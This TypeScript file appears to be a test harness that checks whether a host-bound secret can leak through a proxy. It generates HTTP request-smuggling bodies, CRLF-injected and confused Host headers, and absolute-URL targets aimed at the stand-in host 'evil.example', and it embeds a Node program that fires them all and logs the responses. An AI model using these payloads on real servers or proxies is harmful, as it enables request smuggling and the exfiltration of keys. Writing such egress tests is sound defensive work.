/** A value with a character of each kind that some encoder escapes. */
export const VALUE = 'tok&5f<3e>9a"7b\'1c/2d+48=60?zq'

const EVIL = 'evil.example'
const METHODS = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST', 'PUT', 'PATCH', 'PROPFIND']
const NAMED = [
  'content-length',
  'transfer-encoding',
  'host',
  'Content-Length , Transfer-Encoding',
  'close, content-length',
  'keep-alive, TRANSFER-ENCODING, content-length, host, x-key',
]

/** The placeholder, the bound host and the inner request, as the program fills them in. */
const [KEY, HOST, INNER] = ['<key>', '<host>', '<inner>']

const bodies = (connection: string, method: string): string[] => {
  const head = `${method} /outer HTTP/1.1\r\nHost: ${HOST}\r\nx-key: ${KEY}\r\nConnection: ${connection}\r\n`
  const chunked = `<innerhex>\r\n${INNER}\r\n0\r\n\r\n`
  return [
    `${head}Content-Length: <innerlength>\r\n\r\n${INNER}`,
    `${head}Transfer-Encoding: chunked\r\n\r\n${chunked}`,
    `${head}Transfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n${chunked}`,
    `${head}Transfer-Encoding: gzip, chunked\r\n\r\n${chunked}`,
    `${head}Transfer-Encoding: identity\r\nContent-Length: <innerlength>\r\n\r\n${INNER}`,
    `${head}Content-Length: 0\r\nContent-Length: <innerlength>\r\n\r\n${INNER}`,
    `${head}Content-Type: text/plain\r\nContent-Length: <innerlength>\r\n\r\n${INNER}`,
    `${head}Upgrade: h2c\r\nContent-Length: <innerlength>\r\n\r\n${INNER}`,
    `${head}Expect: 100-continue\r\nContent-Length: <innerlength>\r\n\r\n${INNER}`,
  ]
}

const TARGETS = [
  `https://${EVIL}/x`,
  `http://${EVIL}/x`,
  `https://${EVIL}@${HOST}/x`,
  `https://${HOST}@${EVIL}/x`,
  `https://${HOST}/x`,
  `${EVIL}:443`,
  `${EVIL}/x`,
  '*',
  '?x',
  'x',
]
const HOSTS = [
  EVIL,
  `evil@${HOST}`,
  `${HOST}@${EVIL}`,
  `${HOST}:80@${EVIL}`,
  `${HOST}.${EVIL}`,
  `${HOST}%00.${EVIL}`,
  `${HOST}%2e${EVIL}`,
  `${EVIL}, ${HOST}`,
  `${HOST}, ${EVIL}`,
  `${HOST} ${EVIL}`,
  `[${HOST}]`,
  `${HOST}\r\nHost: ${EVIL}`,
  `${EVIL}\r\nHost: ${HOST}`,
  `${HOST}\r\nX-Forwarded-Host: ${HOST}\r\nHOST : ${EVIL}`,
  `${HOST}\r\n ${EVIL}`,
  '',
]

/** Requests on the connection of the bound host by which a value could go out under another host name. */
export const otherHostRequests = (): string[] => [
  ...METHODS.flatMap(method => NAMED.flatMap(connection => bodies(connection, method))),
  ...['GET', 'POST', 'OPTIONS', 'CONNECT'].flatMap(method =>
    TARGETS.flatMap(target =>
      ['1.1', '1.0'].map(version => `${method} ${target} HTTP/${version}\r\nHost: ${HOST}\r\nx-key: ${KEY}\r\n\r\n`),
    ),
  ),
  ...HOSTS.flatMap(host =>
    ['', 'Connection: upgrade\r\nUpgrade: websocket\r\n', 'Connection: host\r\n'].map(
      more => `GET /host HTTP/1.1\r\nHost: ${host}\r\n${more}x-key: ${KEY}\r\n\r\n`,
    ),
  ),
]

type Encode = (text: string) => string

const each =
  (which: RegExp, encode: (code: number) => string): Encode =>
  text =>
    text.replace(which, char => encode(char.charCodeAt(0)))
const named: { readonly [char: string]: string } = { '&': 'amp', '<': 'lt', '>': 'gt', '"': 'quot', "'": 'apos' }
const names =
  (chars: string): Encode =>
  text =>
    text.replace(/[&<>"']/g, char => (chars.includes(char) ? `&${named[char]};` : char))
const hex = (code: number, width = 2): string => code.toString(16).padStart(width, '0')

/** What servers write a value as: a few of each kind of encoder, and mixtures of all of them. */
export const ENCODERS: { readonly [name: string]: Encode } = {
  plain: text => text,
  'html, least': names('&<>'),
  'html, quotes': names('&<>"'),
  'html, xml': names('&<>"\''),
  'html, decimal': text => each(/["']/g, code => `&#${code};`)(names('&<>')(text)),
  'html, padded': text => each(/'/g, code => `&#0${code};`)(names('&<>"')(text)),
  'html, small': text => each(/['/`=+]/g, code => `&#x${hex(code)};`)(names('&<>"')(text)),
  'html, large': text => each(/['/`=+]/g, code => `&#x${hex(code).toUpperCase()};`)(names('&<>"')(text)),
  'html, not letters': each(/[^a-z0-9]/gi, code => `&#${code};`),
  'html, all': each(/./gs, code => `&#x${hex(code)};`),
  'html, twice': text => names('&<>"\'')(names('&<>"\'')(text)),
  'html of json': text => names('&<>"\'')(JSON.stringify(text).slice(1, -1)),
  json: text => JSON.stringify(text).slice(1, -1),
  'json, for html': text => each(/[<>&'+]/g, code => `\\u00${hex(code)}`)(JSON.stringify(text).slice(1, -1)),
  'json, all': each(/./gs, code => `\\u00${hex(code)}`),
  script: each(/[^a-z0-9]/gi, code => `\\x${hex(code)}`),
  percent: encodeURIComponent,
  'percent, all': each(/./gs, code => `%${hex(code)}`),
  base64: text => Buffer.from(text).toString('base64'),
  hex: text => Buffer.from(text).toString('hex'),
  mixed: text =>
    [...text]
      .map((char, at) => {
        const code = char.charCodeAt(0)
        return [char === '&' ? '&amp;' : char, `&#${code};`, `&#X${hex(code)};`, `\\u00${hex(code)}`, `%${hex(code)}`][
          at % 5
        ]
      })
      .join(''),
}

/**
 * Runs in a turn: `node program.cjs HOST PORT FILE`, with the placeholder in KEY and the requests in requests.json.
 * Writes what every connection answered into FILE, byte for byte.
 */
export const PROGRAM = `
const net = require('node:net'), tls = require('node:tls'), fs = require('node:fs')
const [host, port, file] = process.argv.slice(2), key = process.env.KEY, at = host + ':' + port
const inner = 'GET /smuggled HTTP/1.1\\r\\nHost: evil.example\\r\\nx-key: ' + key + '\\r\\n\\r\\n'
const filled = text => text.replaceAll('<innerlength>', String(inner.length)).replaceAll('<inner>', inner)
  .replaceAll('<innerhex>', inner.length.toString(16)).replaceAll('<host>', at).replaceAll('<key>', key)
const connect = 'CONNECT ' + at + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\n\\r\\n'
const say = (words, patience = 1500) => new Promise(done => {
  const pieces = []
  const over = () => { raw.destroy(); done(Buffer.concat(pieces)) }
  const raw = net.connect(18999, '127.0.0.1', () => raw.write(connect))
  raw.on('error', over)
  raw.once('data', () => {
    const safe = tls.connect({ socket: raw, rejectUnauthorized: false }, () => safe.write(words))
    safe.setTimeout(patience, over)
    safe.on('data', piece => pieces.push(piece)).on('error', over).on('close', over)
  })
})
const get = (path, more = '') => say('GET ' + path + ' HTTP/1.1\\r\\nHost: ' + at + '\\r\\nx-key: ' + key
  + '\\r\\n' + more
  + (more.includes('onnection:') ? '' : 'Connection: close\\r\\n') + '\\r\\n')
const { requests, paths } = JSON.parse(fs.readFileSync('requests.json', 'utf8'))
;(async () => {
  const seen = []
  seen.push(await get('/plain'))
  for (const path of paths) seen.push(await get(path))
  for (let from = 0; from < 40; from += 4) {
    const range = 'bytes=' + from + '-' + (from + 3)
    seen.push(await get('/range', 'Range: ' + range + '\\r\\n'))
    seen.push(await get('/range', 'rAnGe: ' + range + '\\r\\nIf-Range: "x"\\r\\n'))
  }
  for (const upgrade of ['websocket', 'h2c', 'refused'])
    seen.push(await get('/upgrade', 'Connection: upgrade\\r\\nUpgrade: ' + upgrade + '\\r\\nRange: bytes=0-5\\r\\n'))
  fs.writeFileSync(file, Buffer.concat(seen.flatMap(each => [each, Buffer.from('\\n-----\\n')])))
  const rest = requests.map(filled)
  await Promise.all(Array.from({ length: 40 }, async () => {
    while (rest.length) await say(rest.pop(), 500)
  }))
  console.log('tried ' + (requests.length + seen.length))
})()
`
